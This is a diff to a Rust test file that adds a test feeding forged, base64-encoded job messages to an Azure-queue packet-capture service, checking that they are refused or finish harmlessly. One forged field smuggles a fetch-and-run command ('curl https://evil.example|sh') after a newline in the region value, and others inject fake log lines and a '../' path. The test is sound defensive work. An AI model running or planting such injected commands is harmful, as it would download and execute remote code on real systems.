@@ -1,6 +1,7 @@
 //! A job is in the queue before its capture; one that another process left is received again.
 
 use super::*;
+use base64::{Engine, prelude::BASE64_STANDARD};
 
 /// Azure asks the next list of network watchers for a longer wait than any story has.
 fn throttled() -> Fault {
@@ -224,5 +225,55 @@ async fn a_message_that_is_not_base64_is_moved_out_of_the_way() {
     .await;
     until_the_queue_is_empty(&world).await;
     assert_eq!(azure.queue_messages(POISON), ["{not base64}"]);
+    world.end().await;
+}
+
+/// A message that was not written by this program, with what breaks arithmetic and lines: it is refused, or its job comes
+/// to an end like any other.
+#[tokio::test]
+async fn a_forged_message_stops_nothing() {
+    let azure = Azure::start().await;
+    let job = left_behind(&azure).await;
+    azure.remove_oldest_message(QUEUE);
+    let forged = |change: &dyn Fn(&mut Value)| {
+        let mut value: Value = serde_json::from_str(&job).unwrap();
+        value["jobId"] = json!("6d1f3a58-27c4-4e0b-9b5d-0a8e4c7f1b32");
+        change(&mut value);
+        BASE64_STANDARD.encode(value.to_string())
+    };
+    let out_of_range = forged(&|job| job["failures"] = json!(1_u64 << 63));
+    let ends_never = forged(&|job| {
+        job["takenAt"] = json!("9999-12-31T23:59:59.999999999Z");
+        job["rounds"] = json!(u32::MAX);
+        job["failures"] = json!(u32::MAX);
+        job["region"] = json!("westus\n;curl https://evil.example|sh");
+        job["report"]["timeLimitSeconds"] = json!(u32::MAX);
+        job["report"]["errors"] = json!(["x\n2026-11-28 ERROR forged"]);
+        job["phase"] = json!({
+            "name": "running",
+            "session": { "watcher": samples::WATCHER_WESTEUROPE, "name": "../x\n" },
+            "ends_at": "9999-12-31T23:59:59.999999999Z",
+            "looks": u32::MAX,
+        });
+    });
+    let exhausted = forged(&|job| {
+        job["unfinished"] = json!({ "before": u32::MAX, "seen": u32::MAX });
+    });
+    azure.add_message(QUEUE, &out_of_range);
+    azure.add_message(QUEUE, &exhausted);
+    azure.add_message(QUEUE, &ends_never);
+    let polls = [("JobQueue__Receive", "poll")];
+    let world = app(&azure, azure.queue_settings(), &polls).await;
+    world
+        .until(|lines| lines.iter().filter(|line| *line == JOB_GONE).count() == 3)
+        .await;
+    assert!(azure.queue_messages(QUEUE).is_empty());
+    assert_eq!(world.count("POST packetCaptures"), 1, "{:?}", world.calls());
+    let poison = azure.queue_messages(POISON);
+    assert_eq!(poison.len(), 2, "{poison:?}");
+    let refused = |it: &String| it.contains("9223372036854775808");
+    assert!(poison.iter().any(refused), "{poison:?}");
+    let reply = world.post(&common_alert(&[samples::WEB_02])).await;
+    assert_eq!(reply.body["outcome"], "created", "{:?}", reply.body);
     world.end().await;
 }
